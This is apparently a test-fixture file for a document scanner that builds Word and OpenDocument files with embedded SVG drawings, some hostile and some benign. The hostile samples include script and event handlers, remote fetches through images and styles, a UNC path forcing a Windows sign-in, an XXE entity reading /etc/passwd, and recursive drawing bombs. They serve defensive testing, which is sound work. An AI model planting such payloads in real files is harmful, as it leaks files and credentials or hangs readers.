import { gzipSync } from 'node:zlib'
import { buildDocx, buildOdt, inside } from './build-office.ts'
import type { Honest, Hostile } from './document.ts'
import { drawingBombs } from './drawing-bombs.ts'

const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const drawing = (content: string, attributes = '') => `<svg ${SVG} ${attributes}>${content}</svg>`
const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

/** A picture as Word 365 writes it: the drawing, and a PNG for those who cannot show it. */
const BLIP = `<w:p><w:r><w:drawing xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><a:blip r:embed="rId4"><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rId5"/></a:ext></a:extLst></a:blip></w:drawing></w:r></w:p>`
const TYPES =
  '<Default Extension="png" ContentType="image/png"/><Default Extension="svg" ContentType="image/svg+xml"/>'

/** A Word file with this drawing. */
function docxOf(content: string | Buffer, { name = 'image2.svg', types = TYPES } = {}): Buffer {
  return buildDocx({
    body: BLIP,
    types,
    related: [
      inside('image', 'media/image1.png').replace('"a"', '"rId4"'),
      inside('image', `media/${name}`).replace('"a"', '"rId5"'),
    ],
    more: [
      { name: 'word/media/image1.png', content: Buffer.from(PNG, 'base64') },
      { name: `word/media/${name}`, content },
    ],
  })
}

const odtOf = (content: string, name = 'Pictures/a.svg') =>
  buildOdt({ body: `<draw:image xlink:href="${name}"/>`, more: [{ name, content }] })

/** Each group is drawn twice by the next one. */
const groups = (refer: (id: string) => string) =>
  Array.from({ length: 30 }, (_, n) => `<g id="a${n + 1}">${refer(`a${n}`).repeat(2)}</g>`).join('')

const rows: [name: string, does: string, content: string, refused?: Hostile['refused']][] = [
  ['script', 'runs a script', '<script>alert(1)</script>', 'file_has_macros'],
  ['script-elsewhere', 'loads a script', '<script xlink:href="http://host/a.js"/>', 'file_has_macros'],
  [
    'script-prefixed',
    'runs it by a prefix',
    '<s:script xmlns:s="http://www.w3.org/2000/svg"/>',
    'file_has_macros',
  ],
  ['event', 'runs a script when it is shown', '<g onload="alert(1)"/>', 'file_has_macros'],
  [
    'event-prefixed',
    'hides an event behind a prefix',
    '<g x:onload="a" xmlns:x="urn:x"/>',
    'file_has_macros',
  ],
  [
    'page',
    'shows a web page',
    '<foreignObject><p xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>',
    'file_has_objects',
  ],
  [
    'page-bare',
    'has an element of a web page',
    '<iframe xmlns="http://www.w3.org/1999/xhtml"/>',
    'file_has_objects',
  ],
  [
    'animated-link',
    'sets an address later',
    '<use><set attributeName="href" to="http://host/a"/></use>',
    'file_has_objects',
  ],
  ['link', 'runs a script when it is pressed', '<a xlink:href="javascript:alert(1)"/>', 'file_has_objects'],
  ['picture-elsewhere', 'tells a server who opened it', '<image xlink:href="https://host/a.png"/>'],
  ['picture-plain', 'does so without a prefix', '<image href="//host/a.png"/>'],
  ['picture-share', 'makes Windows sign in at a server', '<image xlink:href="\\\\host\\a.png"/>'],
  ['picture-beside', 'reads a file beside it', '<image xlink:href="a.png"/>'],
  ['picture-by-base', 'moves its addresses to a server', '<g xml:base="http://host/"/>'],
  [
    'picture-drawn',
    'carries a drawing that is not judged',
    '<image href="data:image/svg+xml;base64,PHN2Zz4="/>',
  ],
  ['picture-false', 'calls such a drawing a PNG', '<image href="data:image/png;base64,PHN2Zz4="/>'],
  ['used-elsewhere', 'draws what lies on a server', '<use href="http://host/a.svg#a"/>'],
  [
    'style-of-notes',
    'does so among notes',
    '<style xmlns="http://www.inkscape.org/namespaces/inkscape">@import "a"</style>',
  ],
  ['style-import', 'imports a style', '<style>@import "http://host/a.css";</style>'],
  [
    'style-raw',
    'does so in raw text, cut',
    '<style><![CDATA[@im]]><!-- --><![CDATA[port "http://host/a"]]></style>',
  ],
  ['style-address', 'fetches by a style', '<style>.a{fill:url(http://host/a#b)}</style>'],
  ['style-escaped', 'spells an address by escapes', '<style>.a{fill:\\75 rl(http://host/a)}</style>'],
  ['style-commented', 'cuts it by a remark', '<style>.a{fill:u/**/rl(http://host/a)}</style>'],
  ['style-set', 'fetches one of several pictures', '<style>g{mask:image-set("http://host/a" 1x)}</style>'],
  ['style-inline', 'fetches by a style of one element', '<g style="fill:url( \'//host/a\' )"/>'],
  ['style-property', 'fetches by a property', '<g filter="url(&#104;ttp://host/a.svg#b)"/>'],
  [
    'style-nested',
    'hides a style in an element',
    '<style><g>@import "http://host/a"</g></style>',
    'file_malformed',
  ],
  [
    'instruction',
    'takes its style from a server',
    '<?xml-stylesheet href="http://host/a"?>',
    'file_has_references',
  ],
  [
    'bomb-of-copies',
    'draws a thousand million copies',
    `<g id="a0"/>${groups((id) => `<use href="#${id}"/>`)}`,
    'file_too_complex',
  ],
  [
    'bomb-of-patterns',
    'fills a pattern with others',
    `<g id="a0"/>${groups((id) => `<g fill="url(#${id})"/>`)}`,
    'file_too_complex',
  ],
  [
    'bomb-of-styles',
    'does so by a style',
    `<style>.a{fill:url(#a)}</style><pattern id="a"><g class="a"/></pattern>`,
    'file_too_complex',
  ],
  ['circle', 'draws itself within itself', '<g id="a"><use href="#a"/></g>', 'file_too_complex'],
  [
    'chain',
    'refers on until a reader stops',
    Array.from({ length: 2_000 }, (_, n) => `<g id="a${n}"><use href="#a${n + 1}"/></g>`).join(''),
    'file_too_complex',
  ],
  [
    'deep-drawing',
    'nests elements until a reader stops',
    `${'<g>'.repeat(401)}${'</g>'.repeat(401)}`,
    'file_too_complex',
  ],
]

const wholes: [name: string, does: string, refused: Hostile['refused'], make: () => Buffer][] = [
  [
    'svg-entities',
    'has an entity that reads a file',
    'file_has_references',
    () => docxOf(`<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${drawing('<text>&a;</text>')}`),
  ],
  [
    'svg-doctype',
    'fetches what defines it',
    'file_has_references',
    () => docxOf(`<!DOCTYPE svg SYSTEM "http://host/a.dtd">${drawing('')}`),
  ],
  [
    'svg-root',
    'is a web page by its content',
    'file_has_objects',
    () => docxOf('<html xmlns="http://www.w3.org/1999/xhtml"/>'),
  ],
  [
    'svg-wide',
    'is in UTF-16',
    'file_malformed',
    () => docxOf(Buffer.from(`\ufeff${drawing('')}`, 'utf16le')),
  ],
  [
    'svg-named-picture',
    'is called a picture',
    'file_malformed',
    () => docxOf(`\ufeff ${drawing('<script/>')}`, { name: 'image2.png' }),
  ],
  [
    'svg-packed',
    'is packed as a picture',
    'file_malformed',
    () => docxOf(gzipSync(drawing('<script/>')), { name: 'image2.emz' }),
  ],
  [
    'svg-typed-otherwise',
    'is a drawing by its type alone',
    'file_malformed',
    () =>
      docxOf(drawing(''), {
        name: 'image2.xml',
        types: '<Override PartName="/word/media/image2.xml" ContentType="image/svg+xml"/>',
      }),
  ],
  [
    'svg-named-data',
    'is called XML, and a picture by its relationship',
    'file_malformed',
    () => docxOf(drawing('<image xlink:href="a.png"/>'), { name: 'image2.xml' }),
  ],
  [
    'svg-packed-behind',
    'is packed behind a long name',
    'file_malformed',
    () =>
      docxOf(Buffer.concat([Buffer.from('1f8b0808000000000003', 'hex'), Buffer.alloc(4_096, 'a')]), {
        name: 'image2.wmz',
      }),
  ],
  [
    'svg-of-page-type',
    'is a web page by its type',
    'file_malformed',
    () => docxOf(drawing(''), { types: '<Default Extension="svg" ContentType="application/xhtml+xml"/>' }),
  ],
]

export const officeDrawings: Hostile[] = [
  ...[...rows, ...drawingBombs].map(([name, does, content, refused = 'file_has_references' as const]) => ({
    name: `svg-${name}`,
    does,
    refused,
    type: 'docx' as const,
    make: () => docxOf(drawing(content)),
  })),
  ...wholes.map(([name, does, refused, make]) => ({ name, does, refused, type: 'docx' as const, make })),
  {
    name: 'svg-script-open',
    does: 'runs a script in a text of OpenDocument',
    refused: 'file_has_macros',
    type: 'odt',
    make: () => odtOf(drawing('<script/>')),
  },
  {
    name: 'svg-unnamed-open',
    does: 'is a picture without an extension',
    refused: 'file_malformed',
    type: 'odt',
    make: () => odtOf(drawing('<script/>'), 'Pictures/1000'),
  },
]

/** An icon of Word's own, in its theme's colour. */
const ICON = `<svg viewBox="0 0 96 96" ${SVG} id="Icons_Envelope" overflow="hidden"><style>
.MsftOfcThm_Accent1_Fill {
 fill:#4472C4;
}
</style><path d="M83 72 56.4 46.1 83 20.3ZM15.1 18 80.9 18 52.1 45.9C49.8 48.1 46.2 48.1 43.9 45.9L15.1 18Z" class="MsftOfcThm_Accent1_Fill" fill="#4472C4"/></svg>`
/** A chart that was pasted as a picture. */
const CHART = `<svg width="640" height="480" ${SVG} overflow="hidden"><defs><clipPath id="clip0"><rect x="0" y="0" width="640" height="480"/></clipPath><image width="1" height="1" xlink:href="data:image/png;base64,${PNG}" preserveAspectRatio="none" id="img1"></image><linearGradient x1="0" y1="0" x2="1" y2="1" gradientUnits="userSpaceOnUse" id="fill2"><stop offset="0" stop-color="#FFF"/></linearGradient></defs><g clip-path="url(#clip0)" transform="translate(-1 -2)"><rect x="3" y="4" width="9" height="9" fill="url(#fill2)" stroke-miterlimit="8"/><use width="100%" height="100%" xlink:href="#img1"/><text font-family="Calibri,Calibri_MSFontService,sans-serif" font-size="19"><tspan x="9">Sales (2026): 4 &amp; more</tspan></text></g></svg>`
/** A drawing of a program for drawings, with its notes. */
const DRAWN = `<?xml version="1.0" encoding="UTF-8" standalone="no"?><svg ${SVG} xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" sodipodi:docname="C:\\Users\\Ama\\logo.svg"><sodipodi:namedview pagecolor="#ffffff"/><metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:type rdf:resource="http://purl.org/dc/dcmitype/StillImage"/></rdf:RDF></metadata><style type="text/css"><![CDATA[ /* one */ .a{fill:url(#b)} @media print{.a{opacity:.5}} ]]></style><radialGradient id="b" xlink:href="#c"/><linearGradient id="c"><stop style="stop-color:#000"/></linearGradient><path class="a" d="M0 0h9z" style="filter:url(&quot;#d&quot;)" inkscape:label="one"/><filter id="d"><feGaussianBlur stdDeviation="2"/></filter></svg>`

/** An arrow between boxes, hatched, with a shadow and a dashed border. */
const DIAGRAM = drawing(
  '<marker id="a" markerWidth="9"><path d="M0 0L9 4L0 9z"/></marker><pattern id="b" width="4" height="4" patternUnits="userSpaceOnUse" patternTransform="rotate(45) scale(0.5)"><line y2="4"/></pattern><filter id="c" width="140%" height="1.4"><feGaussianBlur stdDeviation="3"/></filter><rect width="900" height="600" fill="url(#b)" filter="url(#c)" stroke-dasharray="4 2"/><path d="M10 10C20 20 30 30 400 300" style="stroke-dasharray:1.5,0.5;marker-end:url(#a)" marker-start="none"/>',
  'viewBox="0 0 1000 700"',
)

/** Their first bytes look like markup, but such a picture begins with its length, and a font is masked. */
const LIKE_MARKUP = buildDocx({
  more: [
    { name: 'word/media/image1.heic', content: '\0\0\0<ftypheic' },
    { name: 'word/fonts/font1.odttf', content: '<a' },
    { name: 'word/media/image2.emz', content: gzipSync(Buffer.from('0100000058000000', 'hex')) },
  ],
})

export const honestDrawings: Honest[] = [
  { name: 'pictures and fonts that look like drawings', type: 'docx', make: () => LIKE_MARKUP },
  { name: "an icon of Word's", type: 'docx', make: () => docxOf(ICON) },
  { name: 'a chart as a drawing', type: 'docx', make: () => docxOf(CHART) },
  { name: 'a logo with notes of its program', type: 'docx', make: () => docxOf(DRAWN) },
  { name: 'a diagram', type: 'docx', make: () => docxOf(DIAGRAM) },
  { name: 'a logo in OpenDocument', type: 'odt', make: () => odtOf(DRAWN) },
]
